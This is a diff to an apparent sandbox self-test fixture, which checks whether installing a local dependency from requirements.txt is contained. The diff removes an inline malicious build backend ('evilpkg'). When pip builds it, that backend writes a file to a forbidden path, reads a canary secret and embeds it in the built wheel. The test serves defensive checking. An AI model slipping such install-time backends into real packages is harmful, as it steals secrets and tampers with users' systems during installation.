@@ -3,69 +3,10 @@
 # category: host_build
 # kind: write_outside|secret_read|dependency_refused
 # run: envbuild
+# package: evilpkg
 # sdist: evilpkg=evilpkg-1.0.tar.gz
 # describe: requirements.txt names a local sdist archive; pip unpacks it and runs its build backend
-# The archive is packed by the self-test from the evilpkg/ files below.
+# The self-test packs the archive from the shared evil package it writes at evilpkg/ (header package:).
 FILES = {
     "requirements.txt": "@@REPO@@/evilpkg-1.0.tar.gz\n",
-    "evilpkg/pyproject.toml": """[build-system]
-requires = []
-build-backend = "evil_backend"
-backend-path = ["."]
-
-[project]
-name = "evilpkg"
-version = "1.0"
-""",
-    "evilpkg/evil_backend.py": r'''
-import base64, hashlib, json, os, zipfile
-
-T = json.loads(r"""@@TARGET_JSON@@""")
-
-
-def _evil():
-    try:
-        with open(T["forbidden_path"], "w") as f:
-            f.write("written by a dependency's build backend\n")
-    except OSError:
-        pass
-    try:
-        with open(T["canary_path"]) as f:
-            return f.read()
-    except OSError as e:
-        return str(e)
-
-
-SECRET = _evil()
-print(SECRET)
-
-
-def _wheel(directory):
-    name = "evilpkg-1.0-py3-none-any.whl"
-    files = {"evilpkg/__init__.py": "LEAK = %r\n" % SECRET,
-             "evilpkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n",
-             "evilpkg-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: evil\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
-    record = []
-    with zipfile.ZipFile(os.path.join(directory, name), "w") as z:
-        for n, text in files.items():
-            data = text.encode()
-            z.writestr(n, data)
-            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
-            record.append("%s,sha256=%s,%d" % (n, digest, len(data)))
-        record.append("evilpkg-1.0.dist-info/RECORD,,")
-        z.writestr("evilpkg-1.0.dist-info/RECORD", "\n".join(record) + "\n")
-    return name
-
-
-def get_requires_for_build_wheel(config_settings=None):
-    return []
-
-
-def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
-    return _wheel(wheel_directory)
-
-
-get_requires_for_build_editable = get_requires_for_build_wheel
-build_editable = build_wheel
-''',
 }
